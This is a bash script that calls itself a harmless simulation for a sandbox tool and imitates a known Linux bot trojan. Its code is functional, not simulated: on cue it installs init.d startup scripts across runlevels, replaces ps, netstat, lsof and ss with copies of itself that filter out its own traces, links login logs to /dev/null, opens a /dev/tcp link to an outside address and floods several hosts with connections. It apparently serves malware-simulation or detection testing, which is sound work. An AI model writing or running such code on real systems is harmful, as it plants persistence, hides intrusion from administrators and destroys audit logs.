#!/bin/bash
# REDSHANK SIMULATION: a harmless stand-in made of shell text; it exists only in the sandbox host of `redshank simulate`.
# Like the program it plays it chooses its part by its own path, and does it when the story tells it to (one word a line).
cues=/run/redshank-simulation

start_place() {
  mkdir -p /etc/init.d
  printf '#!/bin/sh\n# REDSHANK SIMULATION\n/tmp/breeb\n' >/etc/init.d/DbSecuritySpt
}

install() {
  start_place
  chmod 755 /etc/init.d/DbSecuritySpt
  for level in 1 2 3 4 5; do ln -sf /etc/init.d/DbSecuritySpt "/etc/rc$level.d/S97DbSecuritySpt"; done
  mkdir -p /usr/bin/bsd-port /usr/bin/dpkgd
  cp "$0" /usr/bin/bsd-port/getty
  printf '#!/bin/sh\n# REDSHANK SIMULATION\n/usr/bin/bsd-port/getty\n' >/etc/init.d/selinux
  chmod 755 /etc/init.d/selinux
  for level in 1 2 3 4 5; do ln -sf /etc/init.d/selinux "/etc/rc$level.d/S99selinux"; done
  for tool in ps netstat lsof ss; do
    place=$(command -v "$tool") || continue
    cp "$place" "/usr/bin/dpkgd/$tool"
    cp "$0" "$place"
    chmod 755 "$place" "/usr/bin/dpkgd/$tool"
  done
  echo $$ >/tmp/moni.lock
  /usr/bin/bsd-port/getty &
}

hide() {
  for log in wtmp btmp lastlog faillog; do ln -sf /dev/null "/var/log/$log"; done
}

connect() {
  exec 6<>/dev/tcp/203.0.113.66/36000
}

flood() {
  for _ in $(seq 100); do
    for place in 203.0.113.66/36000 203.0.113.67/30000 203.0.113.68/3411; do
      exec 7<>"/dev/tcp/$place" && exec 7>&-
    done
  done
}

follow() {
  exec 5<>"$cues/$1"
  while read -r cue <&5; do
    case "$cue" in
      install) install ;;
      rewrite) start_place ;;
      hide) hide ;;
      connect) connect ;;
      flood) flood ;;
    esac
  done
}

case "$0" in
  */bsd-port/getty) follow getty ;;
  */breeb) follow breeb ;;
  *) "/usr/bin/dpkgd/${0##*/}" "$@" | grep -v -e bsd-port -e breeb ;;
esac
